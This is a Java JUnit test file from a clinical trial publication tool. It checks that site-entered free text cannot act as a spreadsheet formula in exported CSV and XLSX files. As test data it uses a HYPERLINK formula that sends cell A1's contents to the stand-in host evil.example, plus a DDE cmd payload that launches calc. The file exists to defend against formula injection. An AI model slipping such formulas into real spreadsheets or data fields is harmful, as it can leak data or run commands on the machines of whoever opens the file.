package org.trialbench.publication.tests;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.time.LocalDate;
import java.util.List;
import java.util.Map;

import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.eclipse.core.runtime.NullProgressMonitor;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.trialbench.clinical.SubjectStatus;
import org.trialbench.publication.AnalysisDataset;
import org.trialbench.publication.AnalysisEvent;
import org.trialbench.publication.AnalysisSubject;
import org.trialbench.publication.Population;
import org.trialbench.publication.excel.ListingsExport;
import org.trialbench.publication.excel.SpreadsheetText;
import org.trialbench.publication.excel.TablesWorkbook;
import org.trialbench.publication.excel.WorkbookProvenance;
import org.trialbench.publication.tables.PublicationTables;

/**
 * Free text typed at a site (an adverse event's verbatim term, a withdrawal reason) that a spreadsheet program would
 * run as a formula reaches the exported files only as inert text.
 */
class FormulaInjectionTest {
	private static final String ATTACK = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
	private static final String COMMAND = "@SUM(1+1)*cmd|' /C calc'!A0";

	@TempDir
	Path directory;

	private AnalysisDataset dataset() {
		AnalysisEvent event = new AnalysisEvent("Gastrointestinal disorders", "Chest pain", ATTACK, 2, false, false,
				true, LocalDate.of(2026, 2, 1));
		AnalysisSubject subject = new AnalysisSubject("S1", "+01-001", "01", SubjectStatus.WITHDRAWN, null, null, "POEM",
				"ACH3", true, null, true, LocalDate.of(2026, 3, 1), "WITHDRAWN", COMMAND, Map.of(), true, null,
				List.of(event));
		return new Subjects().add(subject).add("BTX", "DES", 50.0, false).dataset();
	}

	private WorkbookProvenance provenance(AnalysisDataset data) {
		return new WorkbookProvenance("POEM-SPASM", data.snapshot(), Population.ITT, "test", Instant.now(), "=cmd");
	}

	@Test
	void dangerousTextIsRecognised() {
		for (String text : List.of("=1+1", "+1", "-1+2", "@x", "\tx", "\rx")) {
			assertTrue(SpreadsheetText.dangerous(text), text);
		}
		assertFalse(SpreadsheetText.dangerous("Chest pain"));
		assertEquals("'=1+1", SpreadsheetText.csvField("=1+1"));
		assertEquals("\"'=A1,B1\"", SpreadsheetText.csvField("=A1,B1"));
		assertEquals("\"say \"\"hi\"\"\"", SpreadsheetText.csvField("say \"hi\""));
	}

	@Test
	void csvListingsNeutraliseFormulas() throws Exception {
		AnalysisDataset data = dataset();
		ListingsExport.write(data, provenance(data), ListingsExport.Format.CSV, directory.resolve("l.csv"),
				new NullProgressMonitor());
		String events = Files.readString(directory.resolve("l-adverse-events.csv"), StandardCharsets.UTF_8);
		assertTrue(events.contains("\"'" + ATTACK.replace("\"", "\"\"") + "\""), events);
		String subjects = Files.readString(directory.resolve("l-subjects.csv"), StandardCharsets.UTF_8);
		assertTrue(subjects.contains("'" + COMMAND.substring(0, 8)), subjects);
		assertTrue(subjects.contains("'+01-001"), subjects);
		for (String line : subjects.split("\r\n")) {
			for (String field : line.split(",")) {
				assertFalse(SpreadsheetText.dangerous(field.replace("\"", "")), "unsafe field " + field);
			}
		}
	}

	@Test
	void xlsxCellsStayTextWithTheQuotePrefix() throws Exception {
		AnalysisDataset data = dataset();
		Path listings = directory.resolve("l.xlsx");
		ListingsExport.write(data, provenance(data), ListingsExport.Format.XLSX, listings, new NullProgressMonitor());
		try (InputStream in = Files.newInputStream(listings); XSSFWorkbook workbook = new XSSFWorkbook(in)) {
			Cell verbatim = workbook.getSheet("Adverse events").getRow(1).getCell(7);
			assertEquals(CellType.STRING, verbatim.getCellType());
			assertEquals(ATTACK, verbatim.getStringCellValue(), "shown unchanged");
			assertTrue(verbatim.getCellStyle().getQuotePrefixed());
			workbook.forEach(sheet -> sheet.forEach(row -> row.forEach(
					cell -> assertFalse(cell.getCellType() == CellType.FORMULA, "no formula in " + sheet.getSheetName()))));
		}
		Path tables = directory.resolve("t.xlsx");
		TablesWorkbook.write(PublicationTables.of(data, Population.ITT, new NullProgressMonitor()), provenance(data),
				tables, new NullProgressMonitor());
		try (InputStream in = Files.newInputStream(tables); XSSFWorkbook workbook = new XSSFWorkbook(in)) {
			Cell createdBy = null;
			for (var row : workbook.getSheet("About")) {
				if (row.getCell(1) != null && row.getCell(1).getStringCellValue().endsWith("=cmd")) {
					createdBy = row.getCell(1);
				}
			}
			assertEquals(CellType.STRING, createdBy.getCellType());
			workbook.forEach(sheet -> sheet.forEach(row -> row.forEach(cell -> {
				assertFalse(cell.getCellType() == CellType.FORMULA);
				if (cell.getCellType() == CellType.STRING && SpreadsheetText.dangerous(cell.getStringCellValue())) {
					assertTrue(cell.getCellStyle().getQuotePrefixed(), cell.getStringCellValue());
				}
			})));
		}
	}
}
